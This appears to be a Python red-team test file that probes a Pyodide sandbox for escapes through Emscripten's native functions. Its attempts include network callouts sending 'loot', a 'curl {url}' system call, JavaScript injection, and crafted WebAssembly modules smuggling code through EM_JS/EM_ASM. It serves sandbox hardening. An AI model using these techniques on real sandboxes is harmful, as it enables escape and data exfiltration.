"""More attacks from inside the interpreter, by C's own names for JavaScript: what `interpreter.py` says of its own holds here.

A page runs that file first. The names are Emscripten's; which of them there are at all, `tests/red_team/test_c_symbols.py` says.
"""

import asyncio
import ctypes

import pyodide_js

from __main__ import LIBRARY, code

SILENT = "refused: nothing said so, but the canary would"


def text(value):
    """A text for C, which stays where it is."""
    kept = ctypes.create_string_buffer(value.encode())
    KEPT.append(kept)
    return ctypes.addressof(kept)


KEPT = []


async def attack_emscripten_async_wget2(url):
    LIBRARY.emscripten_async_wget2(url.encode(), b"/tmp/loot", b"POST", b"loot=1", 0, 0, 0, 0)
    await asyncio.sleep(0.3)
    return SILENT


async def attack_emscripten_async_wget2_data(url):
    LIBRARY.emscripten_async_wget2_data(url.encode(), b"GET", b"", 0, 1, 0, 0, 0)
    await asyncio.sleep(0.3)
    return SILENT


async def attack_emscripten_websocket_new(url):
    attributes = (ctypes.c_uint32 * 3)(text(url.replace("http", "ws", 1)), 0, 0)
    number = LIBRARY.emscripten_websocket_new(attributes)
    assert number > 0, number
    LIBRARY.emscripten_websocket_send_utf8_text(number, b"loot")
    await asyncio.sleep(0.3)
    return SILENT


async def attack_emscripten_create_worker(url):
    LIBRARY.emscripten_create_worker(url.encode())
    await asyncio.sleep(0.3)
    return SILENT


async def attack_emscripten_dlopen_promise(url):
    LIBRARY.emscripten_dlopen_promise(url.encode(), 2)
    await asyncio.sleep(0.3)
    return SILENT


def attack_emscripten_system(url):
    """Emscripten's own `system` starts a process where it runs in Node.js."""
    LIBRARY._emscripten_system.restype = ctypes.c_int
    status = LIBRARY._emscripten_system(f"curl {url}".encode())
    if status != 0:
        return f"refused: {status}"


def attack_emscripten_run_script_by_javascript_s_own_name_for_it(url):
    """The same function without C: Emscripten hands it out."""
    pyodide_js._module._emscripten_run_script(text(code(url)))


def attack_emscripten_asm_const_int(url):
    """It runs JavaScript of the build's own, by its address, and has none for what an attacker wrote."""
    LIBRARY.emscripten_asm_const_int(text(code(url)), text(""), 0)


def section(kind, content):
    return bytes([kind]) + number(len(content)) + content


def number(value):
    """LEB128, signed, which for what is small is the unsigned one too."""
    out = b""
    while value > 0x3F:
        value, low = value >> 7, value & 0x7F
        out += bytes([low | 0x80])
    return out + bytes([value])


def side_module(**exported):
    """A library without code that exports addresses, as Emscripten's linker does for JavaScript that is written in C."""
    name = b"\x08dylink.0"
    globals_ = b"".join(b"\x7f\0\x41" + number(address) + b"\x0b" for address in exported.values())
    exports = b"".join(
        bytes([len(each)]) + each.encode() + b"\x03" + bytes([index]) for index, each in enumerate(exported)
    )
    return (
        b"\0asm\1\0\0\0"
        + section(0, name + b"\1\4\0\0\0\0")
        + section(6, bytes([len(exported)]) + globals_)
        + section(7, bytes([len(exported)]) + exports)
    )


def bring(name, **exported):
    path = f"/tmp/{name}.so"
    with open(path, "wb") as file:
        file.write(side_module(**exported))
    return ctypes.CDLL(path)


def control_library_that_exports_addresses(url):
    assert bring("addresses", harmless=text("harmless"))


def attack_javascript_that_a_library_brings_as_a_function(url):
    """``EM_JS``: Emscripten makes a function of the text, and what stands behind the function is done at once."""
    bring("function", __em_js__loot=text(f"(void)<::>0, {code(url)}"))


def attack_javascript_that_a_library_brings_as_a_statement(url):
    """``EM_ASM``: Emscripten makes a function of the text, under its address."""
    start = text(code(url))
    bring("statement", __start_em_asm=start, __stop_em_asm=start + 1)
    LIBRARY.emscripten_asm_const_int(start, text(""), 0)
